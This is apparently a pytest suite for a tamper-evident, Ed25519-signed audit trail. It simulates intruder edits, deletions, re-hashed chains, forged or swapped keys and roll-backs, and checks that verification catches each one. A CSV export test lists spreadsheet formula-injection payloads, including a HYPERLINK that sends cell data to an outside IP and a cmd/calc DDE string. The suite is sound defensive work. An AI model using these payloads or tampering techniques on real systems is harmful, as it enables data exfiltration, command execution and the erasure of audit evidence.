"""The signed audit head against the security review's tamper cases (F3 a-g) and a few more,
roll-backs with and without a witness, the key file, and formula-safe CSV exports (F11).

Each case tampers with a real trail the way an intruder who can write COPILOT_HOME but cannot
read the key would: with sqlite3 directly (dropping the append-only triggers), rewriting every
head they can find (the head row, and the head file the unsigned design kept beside the
database, so the attack is complete against that design too). Each case is judged by
`AuditTrail.verify()` and by `copilot audit verify` in a subprocess.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from guardrails import AuditError, AuditSigner, AuditTrail, SignedHead
from guardrails.audit_head import sign_head

COPILOT = str(Path(sys.executable).with_name("copilot"))
RECORDS = 120  # as in the review: records 101..N are cut off
GENESIS = "0" * 64


@dataclass
class Plant:
    """A data home with a trail, and its key in a folder of its own outside the home."""
    home: Path
    key: Path

    @property
    def db(self) -> Path:
        return self.home / "audit" / "audit.sqlite"

    def trail(self) -> AuditTrail:
        return AuditTrail(self.db, key_file=self.key)

    def cli(self, *args: str) -> subprocess.CompletedProcess:
        env = {k: v for k, v in os.environ.items() if not k.startswith("COPILOT_")}
        env |= {"COPILOT_HOME": str(self.home), "COPILOT_AUDIT_KEY_FILE": str(self.key),
                "COLUMNS": "1000"}  # rich would wrap the reason at 80 columns
        return subprocess.run([COPILOT, "audit", *args], env=env, capture_output=True, text=True,
                              timeout=120)


def spec_hash(fields: dict) -> str:
    """A record's hash by the recipe in guardrails/audit.py's docstring."""
    body = {k: v for k, v in fields.items() if k != "hash"}
    return hashlib.sha256(json.dumps(body, sort_keys=True, separators=(",", ":"),
                                     ensure_ascii=False).encode("utf-8")).hexdigest()


def tamper(db: Path, *statements: tuple[str, tuple]) -> None:
    conn = sqlite3.connect(db, isolation_level=None)
    for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        conn.execute(f"DROP TRIGGER {name}")
    for sql, params in statements:
        conn.execute(sql, params)
    conn.close()


def rewrite_heads(db: Path, head: dict | None) -> None:
    """Put `head` (None: no head) in the head row and in the old design's head file."""
    legacy = db.with_name(db.name + ".head")
    if head is None:
        tamper(db, ("DELETE FROM audit_head", ()))
        legacy.unlink(missing_ok=True)
        return
    text = json.dumps(head)
    tamper(db, ("DELETE FROM audit_head", ()), ("INSERT INTO audit_head VALUES (1, ?)", (text,)))
    legacy.write_text(text)


def stored_head(db: Path) -> dict:
    conn = sqlite3.connect(db)
    (text,) = conn.execute("SELECT head FROM audit_head").fetchone()
    conn.close()
    return json.loads(text)


def rows(db: Path) -> dict[int, dict]:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    found = {r["seq"]: dict(r) for r in conn.execute("SELECT * FROM audit ORDER BY seq")}
    conn.close()
    return found


def rehash_from(db: Path, seq: int, change: dict) -> str:
    """Change record `seq`, then re-chain every later record by the documented recipe."""
    records = rows(db)
    prev, statements = records[seq]["prev_hash"], []
    for n in range(seq, max(records) + 1):
        record = records[n] | ({"prev_hash": prev} | (change if n == seq else {}))
        fields = record | {"details": json.loads(record["details"])}
        record["hash"] = spec_hash(fields)
        statements.append(("UPDATE audit SET user = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                           (record["user"], record["prev_hash"], record["hash"], n)))
        prev = record["hash"]
    tamper(db, *statements)
    return prev


def intruder_signs(plant: Plant, seq: int, digest: str) -> None:
    """A head signed with a key of the intruder's own, and its public key swapped in."""
    intruder = AuditSigner(Ed25519PrivateKey.generate())
    rewrite_heads(plant.db, json.loads(sign_head(intruder, seq, digest).to_json()))
    (plant.db.parent / "audit.sqlite.pub").write_bytes(intruder.key.to_pem())


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> tuple[Plant, dict, Path]:
    """A trail of RECORDS records, its signed head at record 100, and a copy of it then."""
    base = tmp_path_factory.mktemp("pristine")
    plant = Plant(base / "home", base / "keys" / "audit.key")
    with plant.trail() as trail:
        trail.append_many([(f"user{i % 4}", "operator", "ask", {"i": i}) for i in range(100)])
        head_at_100 = stored_head(plant.db)
    copy_at_100 = base / "home-at-100"
    shutil.copytree(plant.home, copy_at_100)
    with plant.trail() as trail:
        trail.append_many([(f"user{i % 4}", "operator", "search", {"i": i})
                           for i in range(100, RECORDS)])
    return plant, head_at_100, copy_at_100


@pytest.fixture()
def plant(pristine, tmp_path) -> Plant:
    """A writable copy of the pristine plant (the key is shared: nobody here writes it)."""
    original = pristine[0]
    shutil.copytree(original.home, tmp_path / "home")
    return Plant(tmp_path / "home", original.key)


def cut_after_100(db: Path) -> None:
    tamper(db, ("DELETE FROM audit WHERE seq > 100", ()))


def case_a(plant: Plant, head_at_100: dict) -> None:  # edit record 7
    tamper(plant.db, ("UPDATE audit SET user = 'mallory' WHERE seq = 7", ()))


def case_b(plant: Plant, head_at_100: dict) -> None:  # delete record 20
    tamper(plant.db, ("DELETE FROM audit WHERE seq = 20", ()))


def case_c(plant: Plant, head_at_100: dict) -> None:  # delete the newest 5, head kept
    tamper(plant.db, ("DELETE FROM audit WHERE seq > ?", (RECORDS - 5,)))


def case_d(plant: Plant, head_at_100: dict) -> None:  # cut 101..N, genesis head
    cut_after_100(plant.db)
    rewrite_heads(plant.db, {"seq": 0, "hash": GENESIS})


def case_e(plant: Plant, head_at_100: dict) -> None:  # cut 101..N, head = (100, its hash)
    cut_after_100(plant.db)
    rewrite_heads(plant.db, {"seq": 100, "hash": rows(plant.db)[100]["hash"]})


def case_f(plant: Plant, head_at_100: dict) -> None:  # rewrite 7, re-hash chain and head
    tip = rehash_from(plant.db, 7, {"user": "someone-else"})
    rewrite_heads(plant.db, {"seq": RECORDS, "hash": tip})


def case_f_own_key(plant: Plant, head_at_100: dict) -> None:  # ... and sign with own key
    intruder_signs(plant, RECORDS, rehash_from(plant.db, 7, {"user": "someone-else"}))


def case_g(plant: Plant, head_at_100: dict) -> None:  # delete the head
    rewrite_heads(plant.db, None)


def case_forged_signature(plant: Plant, head_at_100: dict) -> None:
    tip = rows(plant.db)[RECORDS]["hash"]
    fake = base64.b64encode(os.urandom(64)).decode()
    rewrite_heads(plant.db, stored_head(plant.db) | {"hash": tip, "signature": fake})


def case_older_head(plant: Plant, head_at_100: dict) -> None:  # a genuine head, put back
    rewrite_heads(plant.db, head_at_100)


def case_cut_with_older_head_plus_one(plant: Plant, head_at_100: dict) -> None:
    tamper(plant.db, ("DELETE FROM audit WHERE seq > 101", ()))  # the old crash allowance
    rewrite_heads(plant.db, head_at_100)


def case_public_key_swapped(plant: Plant, head_at_100: dict) -> None:
    (plant.db.parent / "audit.sqlite.pub").write_bytes(
        AuditSigner(Ed25519PrivateKey.generate()).key.to_pem())


def case_public_key_deleted(plant: Plant, head_at_100: dict) -> None:
    (plant.db.parent / "audit.sqlite.pub").unlink()


CASES: dict[str, tuple[Callable[[Plant, dict], None], str]] = {
    "a_edit_record_7": (case_a, "record 7 was altered"),
    "b_delete_record_20": (case_b, "record 20 is missing"),
    "c_delete_newest_5_head_kept": (case_c, "trail truncated"),
    "d_cut_and_genesis_head": (case_d, "not a signed head"),
    "e_cut_and_head_at_100": (case_e, "not a signed head"),
    "f_rehashed_chain_and_head": (case_f, "not a signed head"),
    "f_rehashed_and_signed_with_own_key": (case_f_own_key, "signed by key"),
    "g_head_deleted": (case_g, "signed head is missing"),
    "forged_signature": (case_forged_signature, "signature is invalid"),
    "older_head_put_back": (case_older_head, "not covered by the signed head"),
    "cut_to_older_head_plus_one": (case_cut_with_older_head_plus_one, "not covered"),
    "public_key_swapped": (case_public_key_swapped, "public key was swapped"),
    "public_key_deleted": (case_public_key_deleted, "public key audit.sqlite.pub is missing"),
}


@pytest.mark.light
@pytest.mark.parametrize("name", CASES)
def test_tampering_is_detected_by_verify_and_the_cli(name, plant, pristine):
    attack, reason = CASES[name]
    assert plant.trail().verify().ok  # the copy is intact before the attack
    attack(plant, pristine[1])
    result = plant.trail().verify()
    assert not result.ok and reason in result.reason, result
    cli = plant.cli("verify")
    assert cli.returncode == 1 and "BROKEN" in cli.stderr, cli
    assert reason in " ".join(cli.stderr.split())
    # The next append must not launder the evidence (after the review's case d, it moved
    # the checkpoint forward and verify said OK); refusing to append is fine too.
    trail = plant.trail()
    try:
        trail.append("olga", "operator", "ask", {"after": name})
    except AuditError as refused:
        assert "key" in str(refused)
    assert not trail.verify().ok


@pytest.mark.light
def test_a_roll_back_to_an_older_signed_copy_is_caught_only_by_a_witness(plant, pristine, tmp_path):
    _, head_at_100, copy_at_100 = pristine
    witnessed = plant.cli("head", "--json")
    assert witnessed.returncode == 0, witnessed.stderr
    witness = tmp_path / "witness.jsonl"
    witness.write_text(json.dumps(head_at_100) + "\n" + witnessed.stdout)  # kept by QA
    assert SignedHead.parse(witnessed.stdout.strip()).seq == RECORDS
    assert plant.cli("verify", "--witness", str(witness)).returncode == 0

    shutil.rmtree(plant.home)  # the whole home replaced by the copy taken at record 100
    shutil.copytree(copy_at_100, plant.home)
    alone = plant.trail().verify()
    assert (alone.ok, alone.records) == (True, 100)  # consistent and signed: undetectable alone
    assert plant.cli("verify").returncode == 0
    heads = [SignedHead.parse(line) for line in witness.read_text().splitlines()]
    result = plant.trail().verify(heads)
    assert not result.ok and "rolled back" in result.reason
    cli = plant.cli("verify", "--witness", str(witness))
    assert cli.returncode == 1 and "rolled back" in " ".join(cli.stderr.split()), cli


@pytest.mark.light
def test_a_wiped_trail_looks_new_and_only_a_witness_catches_it(plant, tmp_path):
    head = SignedHead.parse(plant.cli("head", "--json").stdout)
    shutil.rmtree(plant.home)  # database, signed head and public key: all gone
    assert plant.trail().verify().ok  # indistinguishable from a new trail
    assert "rolled back" in plant.trail().verify([head]).reason
    without_key = AuditTrail(plant.db, key_file=tmp_path / "elsewhere.key")
    assert "rolled back" in without_key.verify([head]).reason


@pytest.mark.light
def test_a_rewrite_re_signed_with_the_key_is_caught_only_by_a_witness(plant, tmp_path):
    witness = tmp_path / "witness.json"  # a JSON list this time
    witness.write_text(json.dumps([json.loads(plant.cli("head", "--json").stdout)]))
    # Someone holding the key (a host administrator) rewrites record 7 and re-signs.
    tip = rehash_from(plant.db, 7, {"user": "someone-else"})
    signer = AuditSigner.from_file(plant.key)
    rewrite_heads(plant.db, json.loads(sign_head(signer, RECORDS, tip).to_json()))
    assert plant.trail().verify().ok
    cli = plant.cli("verify", "--witness", str(witness))
    assert cli.returncode == 1, cli
    assert f"record {RECORDS} is not the one a witness saw" in " ".join(cli.stderr.split())


@pytest.mark.light
def test_an_empty_or_garbled_witness_file_is_an_error_not_an_ok(plant, tmp_path):
    witness = tmp_path / "witness.jsonl"
    for text, reason in (("\n", "holds no heads"), ('{"seq": 1}\n', "line 1: not a signed head")):
        witness.write_text(text)
        cli = plant.cli("verify", "--witness", str(witness))
        assert cli.returncode == 2 and reason in " ".join(cli.stderr.split()), cli


@pytest.mark.light
def test_a_witness_from_another_key_or_with_a_bad_signature_fails(plant):
    head = SignedHead.parse(plant.cli("head", "--json").stdout)
    other = sign_head(AuditSigner(Ed25519PrivateKey.generate()), head.seq, head.hash)
    assert "signed by key" in plant.trail().verify([other]).reason
    bent = SignedHead(head.seq, head.hash, "2020-01-01T00:00:00.000000+00:00", head.key,
                      head.signature)
    assert "signature is invalid" in plant.trail().verify([bent]).reason
    assert plant.trail().verify([head]).ok


@pytest.mark.light
def test_without_the_key_file_the_public_key_counts_only_with_a_witness(plant, tmp_path):
    head = SignedHead.parse(plant.cli("head", "--json").stdout)
    elsewhere = AuditTrail(plant.db, key_file=tmp_path / "no-such.key")  # e.g. QA's own account
    result = elsewhere.verify()
    assert not result.ok and "no witness names it" in result.reason
    assert elsewhere.verify([head]).ok
    case_f_own_key(plant, {})  # a swapped public key and a head signed with it
    assert "public key was swapped" in elsewhere.verify([head]).reason


@pytest.mark.light
def test_the_key_file_is_private_outside_the_home_and_pinned(tmp_path):
    plant = Plant(tmp_path / "home", tmp_path / "config" / "copilot" / "audit.key")
    exported = plant.cli("export", "--format", "json")  # the export's own record signs a head
    assert exported.returncode == 0, exported.stderr
    assert plant.key.stat().st_mode & 0o777 == 0o600
    assert plant.key.parent.stat().st_mode & 0o777 == 0o700
    assert not any(p.name.endswith(".key") for p in plant.home.rglob("*"))
    signer = AuditSigner.from_file(plant.key)
    assert stored_head(plant.db)["key"] == signer.key.fingerprint
    assert (plant.db.parent / "audit.sqlite.pub").read_bytes() == signer.key.to_pem()
    inside = Plant(plant.home, plant.home / "audit.key")
    refused = inside.cli("verify")
    assert refused.returncode == 2 and "outside" in refused.stderr
    assert not inside.key.exists()


@pytest.mark.light
def test_appending_with_another_or_a_lost_key_is_refused_and_no_key_is_made(plant, tmp_path):
    before = plant.trail().head()
    other = AuditTrail(plant.db, key_file=tmp_path / "other.key")
    with pytest.raises(AuditError, match="does not exist but the trail is already signed"):
        other.append("olga", "operator", "ask", {})
    assert not (tmp_path / "other.key").exists()  # a new key would sign untrusted heads
    AuditSigner.create_file(tmp_path / "other.key")
    with pytest.raises(AuditError, match="this process signs with key"):
        AuditTrail(plant.db, key_file=tmp_path / "other.key").append("olga", "operator", "ask", {})
    assert plant.trail().head() == before and plant.trail().verify().ok


FORMULAS = ['=HYPERLINK("http://10.66.6.6/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1", "\r=1", "'=already quoted"]


@pytest.mark.light
def test_csv_export_neutralises_formulas_and_stays_recomputable(plant):
    trail = plant.trail()
    for name in FORMULAS:  # failed logins: the user name is whatever was typed
        trail.append(name, "none", "login_failed", {"reason": "unknown user"})
    trail.append("alice", "=cmd", "login", {"note": "=not a formula: JSON"})
    exported = list(csv.reader(io.StringIO(trail.export(fmt="csv"), newline="")))
    header, body = exported[0], exported[1 + RECORDS:]
    assert len(body) == len(FORMULAS) + 1
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert [row[2] for row in body[:-1]] == ["'" + name for name in FORMULAS]
    assert body[-1][3] == "'=cmd" and body[-1][5].startswith("{")
    for row in body:  # the docstring's recipe: strip one leading quote, then recompute
        fields = dict(zip(header, (c[1:] if c.startswith("'") else c for c in row)))
        fields |= {"seq": int(fields["seq"]), "details": json.loads(fields["details"])}
        assert spec_hash(fields) == fields["hash"]
    as_json = json.loads(trail.export(fmt="json"))
    assert [r["user"] for r in as_json[RECORDS:-1]] == FORMULAS  # JSON stays exact
    cli = plant.cli("export", "--format", "csv")
    assert cli.returncode == 0, cli.stderr
    users = [row[2] for row in csv.reader(io.StringIO(cli.stdout))]
    assert "'" + FORMULAS[0] in users and FORMULAS[0] not in users
